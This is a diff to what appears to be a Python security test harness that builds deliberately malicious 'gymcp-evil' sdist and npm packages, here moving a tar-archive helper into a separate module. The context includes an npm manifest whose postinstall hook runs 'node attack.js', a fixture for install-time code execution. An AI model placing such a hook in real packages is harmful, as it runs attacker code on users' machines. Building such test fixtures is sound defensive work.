@@ -5,17 +5,17 @@ from __future__ import annotations
 import base64
 import hashlib
 import http.server
-import io
 import json
 import socket
 import subprocess
 import sys
-import tarfile
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
+
+from archives import make_tar
 
 CANARY = "gymcp-canary-7f3a"
 
@@ -132,7 +132,7 @@ def write_sdist(folder: Path, victim: Prey) -> None:
     files["PKG-INFO"] = "Metadata-Version: 2.1\nName: gymcp-evil\nVersion: 1.0\n"
     folder.mkdir()
     (folder / "gymcp_evil-1.0.tar.gz").write_bytes(
-        tar({f"gymcp_evil-1.0/{name}": text for name, text in files.items()})
+        make_tar({f"gymcp_evil-1.0/{name}": text for name, text in files.items()})
     )
 
 
@@ -143,16 +143,6 @@ def npm_files(victim: Prey) -> dict[str, str]:
 
 def npm_manifest() -> dict[str, object]:
     return {"name": "gymcp-evil", "version": "1.0.0", "scripts": {"postinstall": "node attack.js"}}
-
-
-def tar(files: dict[str, str]) -> bytes:
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
-        for name, text in files.items():
-            entry = tarfile.TarInfo(name)
-            entry.size = len(text.encode())
-            archive.addfile(entry, io.BytesIO(text.encode()))
-    return buffer.getvalue()
 
 
 @contextmanager
